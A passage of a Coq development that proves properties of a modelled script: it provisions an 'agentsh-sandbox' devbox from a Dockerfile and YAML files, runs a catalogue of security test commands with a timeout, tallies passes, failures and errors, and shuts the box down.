Lemma length_take (n : nat) (s : string) :
  String.length (take n s) = Nat.min n (String.length s).
Proof.
  revert s. induction n as [|n IH]; intros [|c s]; simpl; try reflexivity.
  now rewrite IH.
Qed.



Lemma lstrip_first (s : string) : first_char is_space (lstrip s) = false.
Proof.
  induction s as [|c s IH]; simpl; [reflexivity|].
  destruct (is_space c) eqn:E; [exact IH | exact E].
Qed.

Lemma rstrip_first (s : string) :
  first_char is_space s = false -> first_char is_space (rstrip s) = false.
Proof.
  destruct s as [|c s]; simpl; [reflexivity|]. intros H.
  destruct (rstrip s); [now rewrite H | exact H].
Qed.



Lemma strip_first (s : string) : first_char is_space (strip s) = false.
Proof. apply rstrip_first, lstrip_first. Qed.


Lemma truncate_length (s : string) : (String.length (truncate s) <= 203)%nat.
Proof.
  unfold truncate. destruct (Nat.ltb_spec 200 (String.length s)) as [H | H]; [|lia].
  rewrite length_app, length_take.
  change (String.length "...") with 3%nat. lia.
Qed.

Lemma truncate_first (s : string) :
  first_char is_space s = false -> first_char is_space (truncate s) = false.
Proof.
  intros F. unfold truncate.
  destruct (Nat.ltb_spec 200 (String.length s)) as [H | H]; [|exact F].
  destruct s as [|c s]; [simpl in H; lia|]. exact F.
Qed.


End OutputFacts.

(* ===================================================================== *)
(** * Every run follows one of the paths *)
(* ===================================================================== *)

Module PathFacts.
Import PyStr Trace Specs Rules TraceFacts Run RunFacts Paths.
Local Open Scope list_scope.

(** How [bind] runs, by the outcome of its first part. *)
Lemma bind_run {A B} (m : M A) (f : A -> M B) (h : trace) :
  bind m f h
  = match m h with
    | (Done a, E1) => (fst (f a (h ++ E1)), E1 ++ snd (f a (h ++ E1)))
    | (Raise e, E1) => (Raise e, E1)
    | (OutOfFuel, E1) => (OutOfFuel, E1)
    end.
Proof.
  unfold bind. destruct (m h) as [[a | e |] E1]; [|reflexivity ..].
  now destruct (f a (h ++ E1)).
Qed.

Lemma check_prerequisites_paths (w : World) :
  sat (check_prerequisites w) prerequisites_checked.
Proof.
  intros h. unfold check_prerequisites.
  destruct (environ_get w "RUNLOOP_API_KEY") as [[|c key]|];
    try (cbn; constructor).
  unfold bind at 1, ret at 1. cbn [app].
  destruct (client_importable w); cbn; constructor.
Qed.

Lemma wait_for_blueprint_paths (w : World) (fuel : nat) (id : string) :
  sat (wait_for_blueprint w fuel id) (blueprint_waited id fuel).
Proof.
  induction fuel as [|fuel IH]; intros h.
  - constructor.
  - cbn [wait_for_blueprint]. rewrite bind_call_run.
    destruct (blueprints_retrieve w h id) as [status | e]; [|constructor].
    unfold print. rewrite bind_emit_run. cbn [fst snd].
    destruct (String.eqb_spec status "build_complete") as [-> | Hc];
      [constructor|].
    destruct (String.eqb_spec status "build_failed") as [-> | Hf].
    + unfold bind, try_except, call, emit, raise, ret.
      match goal with
      | |- context [blueprints_logs w ?hh id] =>
          destruct (blueprints_logs w hh id) as [logs | e] eqn:El
      end.
      * cbn. apply (bw_failed id fuel (Returns logs)).
      * cbn [fst snd]. pose proof (bw_failed id fuel (Raises e)) as B.
        unfold build_failure in B. destruct (is_Exception e); exact B.
    + unfold sleep. rewrite bind_emit_run. cbn [fst snd].
      match goal with
      | |- context [wait_for_blueprint w fuel id ?hh] => specialize (IH hh)
      end.
      now constructor.
Qed.

Lemma wait_for_devbox_paths (w : World) (fuel : nat) (id : string) :
  sat (wait_for_devbox w fuel id) (devbox_waited id fuel).
Proof.
  induction fuel as [|fuel IH]; intros h.
  - constructor.
  - cbn [wait_for_devbox]. rewrite bind_call_run.
    destruct (devboxes_retrieve w h id) as [status | e]; [|constructor].
    destruct (String.eqb_spec status "running") as [-> | Hr]; [constructor|].
    destruct (String.eqb_spec status "failed") as [-> | Hf];
      [constructor; now left|].
    destruct (String.eqb_spec status "shutdown") as [-> | Hs];
      [constructor; now right|].
    cbn [orb]. unfold sleep. rewrite bind_emit_run. cbn [fst snd].
    match goal with
    | |- context [wait_for_devbox w fuel id ?hh] => specialize (IH hh)
    end.
    now constructor.
Qed.

Lemma create_blueprint_paths (w : World) (fuel : nat)
    (dockerfile default_yaml config_yaml : string) :
  sat (create_blueprint w fuel dockerfile default_yaml config_yaml)
      (blueprint_created fuel dockerfile default_yaml config_yaml).
Proof.
  intros h. unfold create_blueprint, print.
  rewrite !bind_emit_run, bind_call_run. cbn [fst snd].
  match goal with
  | |- context [blueprints_create w ?hh ?n ?d ?m ?c] =>
      destruct (blueprints_create w hh n d m c) as [id | e]
  end; [|apply bc_create_raised].
  rewrite !bind_emit_run. cbn [fst snd]. rewrite bind_run.
  match goal with
  | |- context [wait_for_blueprint w fuel id ?hh] =>
      pose proof (wait_for_blueprint_paths w fuel id hh) as W;
      destruct (wait_for_blueprint w fuel id hh) as [[[] | e |] E]
  end; cbn [fst snd ret] in *.
  - rewrite app_nil_r. exact (bc_built fuel _ _ _ id E W).
  - exact (bc_not_built fuel _ _ _ id e E W).
  - exact (bc_more_polls fuel _ _ _ id E W).
Qed.

Lemma create_devbox_paths (w : World) (fuel : nat) (blueprint_id : string) :
  sat (create_devbox w fuel blueprint_id) (devbox_created fuel blueprint_id).
Proof.
  intros h. unfold create_devbox, print.
  rewrite !bind_emit_run, bind_call_run. cbn [fst snd].
  match goal with
  | |- context [devboxes_create w ?hh blueprint_id] =>
      destruct (devboxes_create w hh blueprint_id) as [id | e]
  end; [|apply dc_create_raised].
  rewrite !bind_emit_run. cbn [fst snd]. unfold bind, sleep, emit, ret.
  match goal with
  | |- context [wait_for_devbox w fuel id ?hh] =>
      pose proof (wait_for_devbox_paths w fuel id hh) as W;
      destruct (wait_for_devbox w fuel id hh) as [[[] | e |] E]
  end; cbn [fst snd app] in *.
  - exact (dc_started fuel blueprint_id id E W).
  - exact (dc_not_started fuel blueprint_id id e E W).
  - exact (dc_more_polls fuel blueprint_id id E W).
Qed.

Lemma provision_paths (w : World) (fuel : nat) :
  sat (provision w fuel) (provisioned_run fuel).
Proof.
  intros h. unfold provision. rewrite bind_run.
  pose proof (check_prerequisites_paths w h) as C.
  destruct (check_prerequisites w h) as [[[] | e |] E0]; cbn [fst snd] in *.
  - inversion C; subst. rewrite app_nil_r. cbn [app]. unfold print, read_file.
    rewrite !bind_emit_run. cbn [fst snd]. rewrite bind_call_run.
    match goal with
    | |- context [read_text w ?hh "Dockerfile"] =>
        destruct (read_text w hh "Dockerfile") as [dockerfile | e]
    end; [|apply pv_no_dockerfile].
    cbn [fst snd]. rewrite bind_call_run.
    match goal with
    | |- context [read_text w ?hh "default.yaml"] =>
        destruct (read_text w hh "default.yaml") as [default_yaml | e]
    end; [|apply pv_no_default_yaml].
    cbn [fst snd]. rewrite bind_call_run.
    match goal with
    | |- context [read_text w ?hh "config.yaml"] =>
        destruct (read_text w hh "config.yaml") as [config_yaml | e]
    end; [|apply pv_no_config_yaml].
    cbn [fst snd]. rewrite bind_run.
    match goal with
    | |- context [create_blueprint w fuel ?a ?b ?c ?hh] =>
        pose proof (create_blueprint_paths w fuel a b c hh) as B;
        destruct (create_blueprint w fuel a b c hh) as [[id | e |] E1]
    end; cbn [fst snd] in *.
    + match goal with
      | |- context [create_devbox w fuel id ?hh] =>
          pose proof (create_devbox_paths w fuel id hh) as D;
          destruct (create_devbox w fuel id hh) as [r E2]
      end; cbn [fst snd] in *.
      exact (pv_devbox fuel _ _ _ id E1 r E2 B D).
    + exact (pv_no_blueprint fuel _ _ _ e E1 B).
    + exact (pv_blueprint_more_polls fuel _ _ _ E1 B).
  - inversion C; subst; now apply pv_unmet.
  - inversion C.
Qed.

Lemma run_test_paths (w : World) (id : string) (test : Test)
    (results : Results) :
  sat (run_test w id test results) (probes id [test] results).
Proof.
  intros h. unfold run_test, print. rewrite !bind_emit_run. cbn [fst snd].
  unfold try_except. rewrite bind_call_run.
  match goal with
  | |- context [devboxes_execute_sync w ?hh id (command test) 30] =>
      destruct (devboxes_execute_sync w hh id (command test) 30) as [result | e]
  end.
  - rewrite !bind_emit_run. cbn [fst snd ret].
    eapply (probes_step id test [] results (Returns result) _ _ [_; _; _] [_; _; _] []).
    + repeat constructor.
    + repeat constructor.
    + reflexivity.
    + constructor. constructor.
  - destruct e; cbn [fst snd].
    + rewrite !bind_emit_run. cbn [fst snd ret app].
      eapply (probes_step id test [] results (Raises TimeoutError) _ _
               [_; _; _] [_; _] []);
        [repeat constructor | repeat constructor | reflexivity
        | constructor; constructor].
    + rewrite !bind_emit_run. cbn [fst snd ret app].
      eapply (probes_step id test [] results (Raises (Exception msg)) _ _
               [_; _; _] [_; _] []);
        [repeat constructor | repeat constructor | reflexivity
        | constructor; constructor].
    + apply (probes_abort id test [] results (BaseException msg) [_; _; _]);
        [repeat constructor | reflexivity].
    + apply (probes_abort id test [] results (SystemExit code) [_; _; _]);
        [repeat constructor | reflexivity].
Qed.

Lemma all_prints_app (P Q : trace) :
  all_prints P -> all_prints Q -> all_prints (P ++ Q).
Proof. intros HP HQ. apply Forall_app. now split. Qed.

Lemma probes_after_prints (id : string) (ts : list Test) (results : Results)
    (r : outcome Results) (P E : trace) :
  all_prints P -> probes id ts results r E -> probes id ts results r (P ++ E).
Proof.
  intros HP H. destruct H.
  - constructor. now apply all_prints_app.
  - rewrite app_assoc. econstructor; eauto using all_prints_app.
  - rewrite app_assoc. constructor; auto using all_prints_app.
Qed.

Lemma probes_app (id : string) (ts1 ts2 : list Test)
    (results a : Results) (r : outcome Results) (E1 E2 : trace) :
  probes id ts1 results (Done a) E1 ->
  probes id ts2 a r E2 ->
  probes id (ts1 ++ ts2) results r (E1 ++ E2).
Proof.
  intros H1. remember (Done a) as r1 eqn:Hr1. revert Hr1.
  induction H1 as [results P HP | t ts results x results' r1 P Q E HP HQ Hx H1 IH
                  | t ts results e P HP He]; intros Hr1 H2.
  - injection Hr1 as ->. now apply probes_after_prints.
  - cbn [app]. rewrite <- app_assoc. cbn [app]. rewrite <- app_assoc.
    econstructor; eauto.
  - discriminate.
Qed.

Lemma probes_app_raise (id : string) (ts1 ts2 : list Test)
    (results : Results) (e : exn) (E : trace) :
  probes id ts1 results (Raise e) E ->
  probes id (ts1 ++ ts2) results (Raise e) E.
Proof.
  intros H1. remember (Raise e) as r1 eqn:Hr1. revert Hr1.
  induction H1 as [results P HP | t ts results x results' r1 P Q E HP HQ Hx H1 IH
                  | t ts results e' P HP He]; intros Hr1.
  - discriminate.
  - cbn [app]. econstructor; eauto.
  - injection Hr1 as ->. cbn [app]. now constructor.
Qed.

Lemma probes_not_out_of_fuel (id : string) (ts : list Test)
    (results : Results) (r : outcome Results) (E : trace) :
  probes id ts results r E -> r <> OutOfFuel.
Proof. induction 1; [discriminate | assumption | discriminate]. Qed.

Lemma probes_bind (id : string) (ts1 ts2 : list Test) (results : Results)
    (m : M Results) (f : Results -> M Results) :
  sat m (probes id ts1 results) ->
  (forall a, sat (f a) (probes id ts2 a)) ->
  sat (bind m f) (probes id (ts1 ++ ts2) results).
Proof.
  intros Hm Hf.
  apply (sat_bind m f (probes id ts1 results) (fun a => probes id ts2 a));
    try assumption.
  - intros a E1 r E2. apply probes_app.
  - intros e E. apply probes_app_raise.
  - intros E H. now apply probes_not_out_of_fuel in H.
Qed.

Lemma probes_after_print (id : string) (ts : list Test) (results : Results)
    (text : string) (f : unit -> M Results) :
  sat (f tt) (probes id ts results) ->
  sat (bind (print text) f) (probes id ts results).
Proof.
  intros H h. unfold print. rewrite bind_emit_run. cbn [fst snd].
  apply (probes_after_prints id ts results _ [EvPrint text]);
    [repeat constructor | apply H].
Qed.

Lemma run_tests_paths (w : World) (id : string) (ts : list Test)
    (results : Results) :
  sat (run_tests w id ts results) (probes id ts results).
Proof.
  revert results. induction ts as [|test ts IH]; intros results;
    cbn [run_tests].
  - apply sat_ret. constructor. constructor.
  - apply (probes_bind id [test] ts); [apply run_test_paths | intros a; apply IH].
Qed.

Lemma run_categories_paths (w : World) (id : string) (catalog : Catalog)
    (results : Results) :
  sat (run_categories w id catalog results)
      (probes id (all_tests catalog) results).
Proof.
  revert results.
  induction catalog as [|[key category] catalog IH]; intros results;
    cbn [run_categories].
  - apply sat_ret. constructor. constructor.
  - do 4 apply probes_after_print.
    apply (probes_bind id (tests category) (all_tests catalog));
      [apply run_tests_paths | intros a; apply IH].
Qed.

Lemma security_tests_paths (w : World) (catalog : Catalog) (id : string) :
  sat (security_tests w catalog id) (tested catalog id).
Proof.
  intros h. unfold security_tests. rewrite bind_run.
  pose proof (run_categories_paths w id catalog (mkResults 0 0 0) h) as L.
  destruct (run_categories w id catalog (mkResults 0 0 0) h) as [[results | e |] E];
    cbn [fst snd] in *.
  - unfold print. rewrite !bind_emit_run. cbn [fst snd ret].
    exact (ts_summarised catalog id results E L).
  - now constructor.
  - now apply probes_not_out_of_fuel in L.
Qed.

Theorem main_paths (w : World) (catalog : Catalog) (fuel : nat) :
  sat (main_on w catalog fuel) (main_run catalog fuel).
Proof.
  intros h. unfold main_on. rewrite bind_run.
  pose proof (provision_paths w fuel h) as P.
  destruct (provision w fuel h) as [[id | e |] E1]; cbn [fst snd] in *;
    [|now constructor ..].
  unfold try_finally.
  match goal with
  | |- context [security_tests w catalog id ?hh] =>
      pose proof (security_tests_paths w catalog id hh) as T;
      destruct (security_tests w catalog id hh) as [r E2]
  end; cbn [fst snd] in *.
  assert (N : r <> OutOfFuel).
  { inversion T; subst; discriminate. }
  match goal with
  | |- context [cleanup w id ?hh] =>
      destruct (cleanup_events_run w id hh) as (a & Ea & Ra);
      destruct (cleanup w id hh) as [r3 E3]
  end; cbn [fst snd] in *. subst r3 E3.
  pose proof (mr_tested catalog fuel id E1 r E2 a P T) as R.
  destruct r as [results | e |]; [| |now elim N]; destruct a as [[] | e']; exact R.
Qed.

End PathFacts.

(* ===================================================================== *)
(** * Facts about the paths of the probe loop *)
(* ===================================================================== *)

Module ProbeFacts.
Import PyStr Trace Specs Rules TraceFacts Run RunFacts Paths Events PathFacts.
Local Open Scope list_scope.

Lemma commands_sent_app (a b : trace) :
  commands_sent (a ++ b) = commands_sent a ++ commands_sent b.
Proof. apply flat_map_app. Qed.

Lemma answers_app (a b : trace) : answers (a ++ b) = answers a ++ answers b.
Proof. apply flat_map_app. Qed.

Lemma commands_sent_prints (P : trace) : all_prints P -> commands_sent P = [].
Proof.
  induction 1 as [|ev P H _ IH]; [reflexivity|].
  destruct ev; try discriminate. exact IH.
Qed.

Lemma answers_prints (P : trace) : all_prints P -> answers P = [].
Proof.
  induction 1 as [|ev P H _ IH]; [reflexivity|].
  destruct ev; try discriminate. exact IH.
Qed.

Lemma count_prints (p : event -> bool) (P : trace) :
  (forall text, p (EvPrint text) = false) -> all_prints P -> count p P = 0%nat.
Proof.
  intros Hp H. apply count_none. eapply Forall_impl; [|exact H].
  intros [] E; try discriminate. apply Hp.
Qed.

(** The commands go out in the order of the tests. *)
Lemma probes_commands (id : string) (ts : list Test) (results : Results)
    (r : outcome Results) (E : trace) :
  probes id ts results r E ->
  exists rest,
    map command ts = commands_sent E ++ rest
    /\ (forall results', r = Done results' -> rest = []).
Proof.
  induction 1 as [results P HP | t ts results a results' r P Q E HP HQ Ha H IH
                 | t ts results e P HP He].
  - exists []. now rewrite commands_sent_prints.
  - destruct IH as (rest & E1 & E2). exists rest. split; [|exact E2].
    rewrite commands_sent_app, commands_sent_prints by assumption.
    cbn [app commands_sent flat_map]. fold (commands_sent (Q ++ E)).
    rewrite commands_sent_app, commands_sent_prints by assumption.
    cbn [app map]. now rewrite E1.
  - exists (map command ts). split; [|discriminate].
    rewrite commands_sent_app, commands_sent_prints by assumption.
    reflexivity.
Qed.

Lemma not_in_prints (P : trace) (ev : event) :
  all_prints P -> is_print ev = false -> ~ In ev P.
Proof.
  intros HP He Hin. unfold all_prints in HP. rewrite Forall_forall in HP.
  specialize (HP ev Hin). congruence.
Qed.


Lemma filter_length_cons {A} (p : A -> bool) (x : A) (l : list A) :
  List.length (filter p (x :: l))
  = ((if p x then 1 else 0) + List.length (filter p l))%nat.
Proof. simpl. now destruct (p x). Qed.

(** The counters after a loop that returned, from the answers. *)
Lemma probes_scores (id : string) (ts : list Test) (results results' : Results)
    (E : trace) :
  probes id ts results (Done results') E ->
  List.length (answers E) = List.length ts
  /\ passed results'
     = (passed results
        + Z.of_nat (List.length (filter (scored true) (combine ts (answers E)))))%Z
  /\ failed results'
     = (failed results
        + Z.of_nat (List.length (filter (scored false) (combine ts (answers E)))))%Z
  /\ errors results' = (errors results + Z.of_nat (count is_raised E))%Z.
Proof.
  intros H. remember (Done results') as r eqn:Hr. revert Hr.
  induction H as [results P HP | t ts results a results1 r P Q E HP HQ Ha H IH
                 | t ts results e' P HP He]; intros Hr.
  - injection Hr as ->. rewrite answers_prints by assumption.
    rewrite count_prints by (assumption || reflexivity).
    cbn. repeat split; lia.
  - destruct (IH Hr) as (L & Hp & Hf & He). clear IH.
    rewrite answers_app, answers_prints by assumption.
    cbn [app answers flat_map]. fold (answers (Q ++ E)).
    rewrite answers_app, answers_prints by assumption.
    cbn [app combine List.length].
    rewrite count_app, (count_prints is_raised P) by (assumption || reflexivity).
    unfold count at 1. rewrite !filter_length_cons.
    fold (count is_raised (Q ++ E)).
    rewrite count_app, (count_prints is_raised Q) by (assumption || reflexivity).
    rewrite Hp, Hf, He. split; [now rewrite L|].
    destruct a as [result | e]; cbn [probe_outcome] in Ha.
    + injection Ha as <-. unfold scored, Classifier.verdict. cbn [fst snd is_raised].
      destruct (Classifier.passed t result); cbn; repeat split; lia.
    + destruct (is_Exception e); [|discriminate]. injection Ha as <-.
      cbn. repeat split; lia.
  - discriminate.
Qed.

End ProbeFacts.

(* ===================================================================== *)
(** * Facts about the paths of a run *)
(* ===================================================================== *)

Module StageFacts.
Import PyStr Trace Specs Rules TraceFacts Run RunFacts Paths Events PathFacts ProbeFacts.
Local Open Scope list_scope.

(** Take a run apart, down to the polling loops and the probe loop. *)
Ltac paths H :=
  inversion H; subst; clear H;
  repeat match goal with
    | P : provisioned_run _ _ _ |- _ => inversion P; subst; clear P
    | P : prerequisites_checked _ _ |- _ => inversion P; subst; clear P
    | P : blueprint_created _ _ _ _ _ _ |- _ => inversion P; subst; clear P
    | P : devbox_created _ _ _ _ |- _ => inversion P; subst; clear P
    | P : tested _ _ _ _ |- _ => inversion P; subst; clear P
    end.

(** ** The kinds of events of each part *)

Section Kinds.
Variable N : event -> Prop.
Hypothesis N_print : forall text, N (EvPrint text).

Lemma prints_all (P : trace) : all_prints P -> Forall N P.
Proof.
  apply Forall_impl. intros [] H; try discriminate. apply N_print.
Qed.

Lemma blueprint_waited_all (id : string) (n : nat) (r : outcome unit)
    (E : trace) :
  N (EvSleep 5) ->
  (forall a, N (EvBlueprintsRetrieve id a)) ->
  (forall a, N (EvBlueprintsLogs id a)) ->
  blueprint_waited id n r E -> Forall N E.
Proof.
  intros Hs Hr Hl. induction 1; repeat constructor; auto.
  destruct logs; repeat constructor; auto.
Qed.

Lemma devbox_waited_all (id : string) (n : nat) (r : outcome unit)
    (E : trace) :
  N (EvSleep 2) ->
  (forall a, N (EvDevboxesRetrieve id a)) ->
  devbox_waited id n r E -> Forall N E.
Proof. intros Hs Hr. induction 1; repeat constructor; auto. Qed.

Lemma probes_all (id : string) (ts : list Test) (results : Results)
    (r : outcome Results) (E : trace) :
  (forall command_ a, N (EvExecuteSync id command_ 30 a)) ->
  probes id ts results r E -> Forall N E.
Proof.
  intros Hx. induction 1;
    repeat first [ assumption | solve [apply prints_all; assumption]
                 | apply Forall_app; split | apply Forall_cons
                 | apply Forall_nil ]; auto.
Qed.

Lemma cleanup_all (id : string) (a : answer unit) :
  N (EvShutdown id a) -> Forall N (cleanup_events id a).
Proof. intros H. destruct a; repeat constructor; auto. Qed.

End Kinds.

(** An event [ev] with [p ev = true] is in none of the parts that only
    hold events with [p] false. *)
Ltac absent :=
  repeat first
    [ apply Forall_app; split
    | apply Forall_cons
    | apply Forall_nil
    | reflexivity
    | match goal with
      | H : blueprint_waited _ _ _ ?E |- Forall _ ?E =>
          refine (blueprint_waited_all _ _ _ _ _ _ _ _ _ H);
          intros; reflexivity
      | H : devbox_waited _ _ _ ?E |- Forall _ ?E =>
          refine (devbox_waited_all _ _ _ _ _ _ _ _ H); intros; reflexivity
      | H : probes _ _ _ _ ?E |- Forall _ ?E =>
          refine (probes_all _ _ _ _ _ _ _ _ H); intros; reflexivity
      | |- Forall _ (cleanup_events _ _) => apply cleanup_all; reflexivity
      | |- Forall _ (blueprint_requested _ _ _ ?a) => destruct a
      | |- Forall _ (devbox_requested _ ?a) => destruct a
      | |- Forall _ (match ?a with Returns _ => _ | Raises _ => _ end) =>
          destruct a
      end
    | progress unfold banner, files_read, daemon_awaited, summary,
        blueprint_requested, devbox_requested ].

Lemma forall_not_in (p : event -> bool) (E : trace) (ev : event) :
  Forall (fun x => p x = false) E -> p ev = true -> ~ In ev E.
Proof.
  intros F Hp Hin. rewrite Forall_forall in F. specialize (F ev Hin). congruence.
Qed.

Lemma split_absent (p : event -> bool) (E pre post : trace) (y : event) :
  E = pre ++ y :: post -> p y = true ->
  Forall (fun ev => p ev = false) E -> False.
Proof.
  intros -> Hy F. apply (forall_not_in p _ y F Hy).
  apply in_or_app. right. now left.
Qed.

(** ** A file that cannot be read *)

Lemma main_run_unreadable (catalog : Catalog) (fuel : nat)
    (r : outcome Results) (E : trace) (file : string) (e : exn) :
  main_run catalog fuel r E ->
  In (EvReadText file (Raises e)) E ->
  r = Raise e /\ Forall (fun ev => is_remote ev = false) E.
Proof.
  intros H Hin. paths H;
    try solve [exfalso; revert Hin; apply (forall_not_in is_failed_read);
               [absent | reflexivity]].
  all: apply in_app_or in Hin as [Hin | Hin];
    [exfalso; revert Hin; apply (forall_not_in is_failed_read);
     [absent | reflexivity]|].
  all: simpl in Hin; intuition (try discriminate).
  all: try match goal with
           | H : EvReadText _ _ = EvReadText _ _ |- _ => now injection H as _ ->
           end.
  all: absent.
Qed.

(** ** Finding an event in a run *)

Tactic Notation "flatten" "in" hyp(H) :=
  unfold banner, files_read, blueprint_requested, devbox_requested,
    daemon_awaited in H;
  repeat rewrite <- app_assoc in H; cbn [app] in H.

(** [HE : trace = pre ++ y :: post] with [p y = true]: walk over the
    events and the parts of the trace that have no event of kind [p]. *)
Ltac locate p HE :=
  repeat first
    [ match type of HE with
      | (?e :: _) = ?pre ++ _ :: _ =>
          let t := eval cbv in (p e) in
          match t with
          | false =>
              let z := fresh "z" in
              let pre' := fresh "pre" in
              destruct pre as [|z pre']; cbn [app] in HE;
              [ first
                  [ discriminate HE
                  | exfalso; injection HE as HE _; rewrite <- HE in *;
                    match goal with
                    | Hy : p _ = true |- _ => discriminate Hy
                    end ]
              | injection HE as <- HE ]
          end
      end
    | match type of HE with
      | (_ ++ _) = _ ++ _ :: _ =>
          let pre' := fresh "pre" in
          apply split_after_prefix in HE as (pre' & -> & HE);
          [|solve [apply (forall_not_in p);
                   [absent | first [reflexivity | assumption]]]]
      end ].

(** [HE : x :: B = pre ++ y :: post] where [B] has no event of kind [p]:
    [y] is [x]. *)
Ltac found p HE :=
  match type of HE with
  | (_ :: _) = ?pre ++ _ :: ?post =>
      let z := fresh "z" in
      let pre' := fresh "pre" in
      destruct pre as [|z pre']; cbn [app] in HE;
      [ injection HE; clear HE; intros; subst
      | exfalso; injection HE as _ HE;
        apply (split_absent p _ _ _ _ HE eq_refl); absent ]
  end.

(** An event is in a trace built from lists and appended parts. *)
Ltac find_in :=
  first
    [ assumption
    | left; reflexivity
    | right; find_in
    | apply in_or_app; left; find_in
    | apply in_or_app; right; find_in ].

(** [Hin : In ev trace] with [p ev = true]: drop the parts of the trace
    that have no event of kind [p]. *)
Ltac in_parts p Hin :=
  repeat (apply in_app_or in Hin as [Hin | Hin]);
  try solve [exfalso; revert Hin; apply (forall_not_in p);
             [absent | reflexivity]].

Ltac count_parts :=
  repeat rewrite count_app;
  repeat match goal with
    | |- context [count ?p ?X] => rewrite (count_none p X) by solve [absent]
    end.

(** ** The call that creates the blueprint *)

Lemma main_run_blueprint_create (catalog : Catalog) (fuel : nat)
    (r : outcome Results) (E : trace)
    (name_ dockerfile : string) (mounts : list (string * string))
    (commands : list string) (a : answer string) (pre post : trace) :
  main_run catalog fuel r E ->
  E = pre ++ EvBlueprintsCreate name_ dockerfile mounts commands a :: post ->
  exists default_yaml config_yaml,
    name_ = "agentsh-sandbox"
    /\ mounts = file_mounts default_yaml config_yaml
    /\ commands = launch_commands
    /\ filter is_read pre = files_read dockerfile default_yaml config_yaml
    /\ Forall (fun ev => is_remote ev = false) pre
    /\ Forall (fun ev => is_blueprint_create ev = false) post.
Proof.
  intros H. paths H; intros HE;
    try solve [exfalso;
               apply (split_absent is_blueprint_create _ _ _ _ HE eq_refl);
               absent].
  all: flatten in HE; locate is_blueprint_create HE;
    found is_blueprint_create HE.
  all: exists default_yaml, config_yaml.
  all: split; [reflexivity|]. 
  all: split; [reflexivity|].
  all: split; [reflexivity|].
  all: split; [reflexivity|].
  all: split; absent.
Qed.

(** ** The call that creates the devbox *)

Lemma last_blueprint_poll_app (a b : trace) :
  last_blueprint_poll (a ++ b)
  = match last_blueprint_poll b with
    | Some p => Some p
    | None => last_blueprint_poll a
    end.
Proof.
  induction a as [|ev a IH]; simpl.
  - now destruct (last_blueprint_poll b).
  - rewrite IH. now destruct (last_blueprint_poll b).
Qed.

Lemma last_blueprint_poll_cons (ev : event) (E : trace)
    (p : string * answer string) :
  last_blueprint_poll E = Some p -> last_blueprint_poll (ev :: E) = Some p.
Proof. intros H. simpl. now rewrite H. Qed.

Lemma blueprint_waited_last (id : string) (n : nat) (E : trace) :
  blueprint_waited id n (Done tt) E ->
  last_blueprint_poll E = Some (id, Returns "build_complete").
Proof.
  intros H. remember (Done tt) as r eqn:Hr. revert Hr.
  induction H; intros Hr; try discriminate.
  - reflexivity.
  - do 3 apply last_blueprint_poll_cons. auto.
Qed.

Lemma main_run_devbox_create (catalog : Catalog) (fuel : nat)
    (r : outcome Results) (E : trace)
    (blueprint_id : string) (a : answer string) (pre post : trace) :
  main_run catalog fuel r E ->
  E = pre ++ EvDevboxesCreate blueprint_id a :: post ->
  last_blueprint_poll pre = Some (blueprint_id, Returns "build_complete")
  /\ (exists dockerfile mounts commands,
        In (EvBlueprintsCreate "agentsh-sandbox" dockerfile mounts commands
              (Returns blueprint_id)) pre)
  /\ Forall (fun ev => is_devbox_create ev = false) pre
  /\ Forall (fun ev => is_devbox_create ev = false) post.
Proof.
  intros H. paths H; intros HE;
    try solve [exfalso;
               apply (split_absent is_devbox_create _ _ _ _ HE eq_refl);
               absent].
  all: flatten in HE; locate is_devbox_create HE; found is_devbox_create HE.
  all: split;
    [ repeat apply last_blueprint_poll_cons;
      rewrite last_blueprint_poll_app; cbn [last_blueprint_poll];
      match goal with
      | W : blueprint_waited _ _ (Done tt) _ |- _ =>
          now rewrite (blueprint_waited_last _ _ _ W)
      end |].
  all: split; [do 3 eexists; find_in|].
  all: split; absent.
Qed.

(** ** A devbox that does not start *)

Lemma devbox_waited_failed (id : string) (n : nat) (r : outcome unit)
    (E : trace) (id' status : string) :
  devbox_waited id n r E ->
  In (EvDevboxesRetrieve id' (Returns status)) E ->
  status = "failed" \/ status = "shutdown" ->
  r = Raise (Exception ("Devbox failed to start: " ++ status)).
Proof.
  intros H Hin Hs.
  induction H as [| | |n status' Hs'|n status' r E Hr Hf Hd H IH].
  - destruct Hin.
  - destruct Hin as [Hin | []]. discriminate.
  - destruct Hin as [Hin | [Hin | []]]; [|discriminate].
    injection Hin as _ <-. destruct Hs; discriminate.
  - destruct Hin as [Hin | []]. now injection Hin as _ ->.
  - destruct Hin as [Hin | [Hin | Hin]]; [|discriminate|auto].
    injection Hin as _ ->. destruct Hs; contradiction.
Qed.

Lemma main_run_devbox_failed (catalog : Catalog) (fuel : nat)
    (r : outcome Results) (E : trace) (id status : string) :
  main_run catalog fuel r E ->
  In (EvDevboxesRetrieve id (Returns status)) E ->
  status = "failed" \/ status = "shutdown" ->
  r = Raise (Exception ("Devbox failed to start: " ++ status))
  /\ count is_shutdown E = 0%nat
  /\ count is_execute E = 0%nat.
Proof.
  intros H. paths H; intros Hin Hs;
    unfold devbox_requested in Hin; in_parts is_devbox_poll Hin.
  all: match goal with
       | W : devbox_waited _ _ _ ?X, I : In _ ?X |- _ =>
           pose proof (devbox_waited_failed _ _ _ _ _ _ W I Hs) as F
       end; try discriminate F.
  injection F as ->. split; [reflexivity|]. split; count_parts; reflexivity.
Qed.

(** ** Which devbox the calls go to *)

Lemma devbox_waited_id (id : string) (n : nat) (r : outcome unit) (E : trace)
    (id' : string) (a : answer string) :
  devbox_waited id n r E -> In (EvDevboxesRetrieve id' a) E -> id' = id.
Proof.
  intros H Hin.
  apply (devbox_waited_all
           (fun ev => match ev with
                      | EvDevboxesRetrieve i _ => i = id
                      | _ => True
                      end)) in H; try (intros; exact I); [|reflexivity].
  rewrite Forall_forall in H. exact (H _ Hin).
Qed.

Lemma probes_id (id : string) (ts : list Test) (results : Results)
    (r : outcome Results) (E : trace)
    (id' command_ : string) (timeout : Z) (a : answer ExecutionResult) :
  probes id ts results r E ->
  In (EvExecuteSync id' command_ timeout a) E -> id' = id /\ timeout = 30%Z.
Proof.
  intros H Hin.
  apply (probes_all
           (fun ev => match ev with
                      | EvExecuteSync i _ t _ => i = id /\ t = 30%Z
                      | _ => True
                      end)) in H; try (intros; exact I); [|now split].
  rewrite Forall_forall in H. exact (H _ Hin).
Qed.

Lemma cleanup_id (id id' : string) (a a' : answer unit) :
  In (EvShutdown id' a') (cleanup_events id a) -> id' = id.
Proof.
  intros H. destruct a; simpl in H;
    repeat destruct H as [H | H]; try discriminate H; try contradiction;
    now injection H.
Qed.

